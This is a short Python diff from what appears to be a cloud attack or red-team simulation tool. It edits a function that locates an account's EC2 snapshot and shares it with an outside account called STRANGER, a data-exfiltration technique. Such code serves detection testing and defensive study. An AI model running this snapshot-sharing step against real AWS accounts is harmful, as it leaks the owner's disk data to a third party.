@@ -116,7 +116,8 @@ def _open_door(loot: Loot) -> None:
 
 def _share_snapshot(loot: Loot) -> None:
     ec2 = loot.client("key", "ec2")
-    mine = ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"][0]["SnapshotId"]
+    own = [{"Name": "owner-id", "Values": [loot.stage.account]}]
+    mine = ec2.describe_snapshots(Filters=own)["Snapshots"][0]["SnapshotId"]
     ec2.modify_snapshot_attribute(
         SnapshotId=mine, Attribute="createVolumePermission", OperationType="add", UserIds=[STRANGER]
     )
